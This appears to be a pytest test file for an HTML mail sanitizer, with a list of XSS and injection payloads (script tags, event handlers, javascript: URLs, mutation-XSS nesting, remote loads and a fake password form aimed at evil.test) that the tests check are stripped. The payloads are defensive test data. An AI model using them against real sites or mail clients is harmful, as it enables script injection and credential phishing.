"""Original formatting made safe: a collection of attacks, and what ordinary mail keeps."""

from __future__ import annotations

import re

import pytest
from lxml import html

from web.html_mail import MOST_CHARACTERS, safe_page

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src='https://evil.test/pixel.gif'>",
    "<img srcset='https://evil.test/a 1x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<style>@import 'https://evil.test/x.css'; body{background:url(https://evil.test/y)}</style>",
    "<p style='background:url(https://evil.test/z)'>x</p>",
    "<div style='position:fixed;top:0'>x</div>",
    "<base href='https://evil.test/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<link rel=stylesheet href='https://evil.test/x.css'>",
    "<form action='https://evil.test/'><input name=password><button>Log in</button></form>",
    "<iframe src='https://evil.test/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.test/x'></object><embed src='https://evil.test/x'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://evil.test/'>x</a>",
    "<a href=' &#1;javascript:alert(1)'>x</a>",
    "<video src='https://evil.test/v' autoplay></video><audio src='https://evil.test/a'></audio>",
    "<table background='https://evil.test/b'><td background='https://evil.test/c'>x</td></table>",
    "<body background='https://evil.test/d' onload=alert(1)>x</body>",
    "<p id=csrf name=csrf class=compose>x</p>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='https://evil.test/x'?>",
    "<template><img src=x onerror=alert(1)></template>",
    "<isindex action=javascript:alert(1)>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<abbr title='</abbr><img src=x onerror=alert(1)>'>x</abbr>",
    "<keygen autofocus onfocus=alert(1)><marquee onstart=alert(1)>x</marquee>",
]
_ATTRIBUTE_NAMES = """
align alt bgcolor border cellpadding cellspacing charset color colspan face height rowspan size src start title type
valign width
"""
_ALLOWED_ATTRIBUTES = set(_ATTRIBUTE_NAMES.split())
_FORBIDDEN_TAGS = {"script", "style", "iframe", "form", "input", "button", "svg", "math", "base", "meta", "link"}


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_loads_or_leads_away_is_left(attack: str) -> None:
    page = safe_page(f"<p>Before</p>{attack}<p>After</p>", {}, title="x")
    assert page
    body = html.document_fromstring(page).body
    tags = {element.tag for element in body.iter()}
    attributes = {name for element in body.iter() for name in element.attrib}
    addresses = [element.get("src") for element in body.iter("img") if element.get("src")]
    assert tags & _FORBIDDEN_TAGS == set()
    assert attributes <= _ALLOWED_ATTRIBUTES
    assert addresses == []


def test_ordinary_formatting_is_kept() -> None:
    markup = '<h1>Rubrik</h1><p><b>fet</b><br><font color="red">röd</font></p><table border="1"></table>'
    page = safe_page(markup, {}, title="x")
    assert page
    assert [piece for piece in ("<h1>", "<b>fet</b>", 'color="red"', '<table border="1">') if piece not in page] == []


@pytest.mark.parametrize(
    "pictures",
    [{"a": ("image/svg+xml", b"<svg/>")}, {"a": ("text/html", b"x")}, {"a": ("image/png", b"x" * (5 << 20))}, {}],
)
def test_a_picture_that_is_none_or_too_large_is_left_out(pictures: dict[str, tuple[str, bytes]]) -> None:
    page = safe_page('<p>Hej</p><img src="cid:a">', pictures, title="x")
    assert page
    assert "data:" not in page


def test_a_title_is_only_text() -> None:
    page = safe_page("<p>x</p>", {}, title="</title><script>alert(1)</script>")
    assert page
    assert not re.search("<script", page)


@pytest.mark.parametrize(
    "markup",
    [
        "<div>" * 100_000,
        "<b>" * 400 + "x",
        "<p>" + "".join(f"<font size={n}>" for n in range(200)) + "</p>" + "<p>x</p>" * 40_000,
        "<table><tr><td>" * 20_000,
        "<div></b>" * 30_000,
        "<!--</div>--><div>" * 20_000,
        "x" * (MOST_CHARACTERS + 1),
        "",
        "   ",
    ],
    ids=["deep", "bold", "copied fonts", "tables", "false ends", "ends in comments", "long", "empty", "blank"],
)
def test_what_would_take_too_long_is_not_begun(markup: str) -> None:
    assert safe_page(markup, {}, title="x") is None


def test_a_long_ordinary_mail_is_shown() -> None:
    thread = "<div><p>Rad med <b>text</b></p></div>" * 8_000
    assert safe_page(f"<html><body>{thread}</body></html>", {}, title="x")
